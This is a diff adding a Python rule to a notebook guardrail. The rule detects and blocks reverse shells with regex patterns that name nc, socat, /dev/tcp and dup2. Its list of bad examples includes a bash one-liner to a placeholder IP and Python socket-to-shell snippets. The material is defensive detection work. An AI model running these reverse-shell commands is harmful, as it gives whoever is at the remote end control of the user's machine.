@@ -1,0 +1,76 @@
+"""Shells whose input and output are a connection to another machine.
+
+Whoever is at the other end works on this computer as its user.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Final
+
+from spark_jupyter.guardrail.rule import Call, Command, Hit, Rule, on
+from spark_jupyter.guardrail.taint_state import State
+from spark_jupyter.guardrail.taint_values import Value
+
+_CONNECTS: Final = re.compile(
+    r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|telnet|socat)\s|\bopenssl\s+s_client\b|\bsocket\.|\bfsockopen\b|\bSocket\b"
+)
+_SHELL: Final = (
+    r"(?:\b(?:ba|z|da|k|c|tc)?sh\s+(?:-\w*i|[0-9]*[<>]&)|\|\s*(?:/\w+)*/?(?:ba|z|da|k)?sh\b(?!\s+-?\w)|\|\s*while\s+read\b|"
+    r"\s-(?:e|c)\s+[\"']?(?:/\w+)*/?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell)\b|--(?:sh-)?exec\b|\bexec:|\bdup2\b|\bpty\.spawn\b)"
+)
+_RUNS: Final = re.compile(_SHELL, re.IGNORECASE)
+
+
+def _is_one(text: str) -> bool:
+    return _CONNECTS.search(text) is not None and _RUNS.search(text) is not None
+
+
+def _command(event: Command, state: State) -> Hit | None:
+    return Hit(event.node) if _is_one(event.text) else None
+
+
+def _program(call: Call, state: State) -> Hit | None:
+    command = call.argument(0, "args", "cmd", "command")
+    streams = (call.kwargs.get(name) for name in ("stdin", "stdout"))
+    given = any(stream is not None and _is_connection(stream) for stream in streams)
+    return Hit(call.node) if given or _is_one(command.command) else None
+
+
+def _is_connection(value: Value) -> bool:
+    return value.name.startswith("socket.") and not value.name.endswith(("[]", "name()"))
+
+
+def _dup(call: Call, state: State) -> Hit | None:
+    """``os.dup2(connection.fileno(), 0)``: the standard streams of what is started next."""
+    onto = call.argument(1, "fd2")
+    standard = onto.const in (0, 1, 2) if onto.is_constant else onto.name.startswith("sys.std") or onto.safe
+    return Hit(call.node) if standard and _is_connection(call.argument(0, "fd")) else None
+
+
+RULE: Final = Rule(
+    id="reverse-shell",
+    cwe=506,
+    severity="block",
+    message="A shell is joined to a connection here: whoever is at its other end works on this computer as you do.",
+    remedy="To work on a machine from elsewhere use ssh, which asks who you are.",
+    bad=(
+        "!bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+        "import os, socket\ns = socket.create_connection((HOST, 4444))\nos.dup2(s.fileno(), 0)",
+        'import socket, subprocess\ns = socket.create_connection((HOST, 4444))\nsubprocess.Popen(["sh"], stdin=s, stdout=s)',
+    ),
+    good=(
+        "!timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
+        "!nc -z localhost 5432",
+        'import os\nlog = os.open("log.txt", os.O_WRONLY)\nos.dup2(log, 1)',
+    ),
+    calls={
+        **on(
+            "os.system os.popen subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.Popen "
+            "subprocess.getoutput get_ipython().system get_ipython().getoutput asyncio.create_subprocess_shell",
+            _program,
+        ),
+        "os.dup2": _dup,
+    },
+    command=_command,
+)
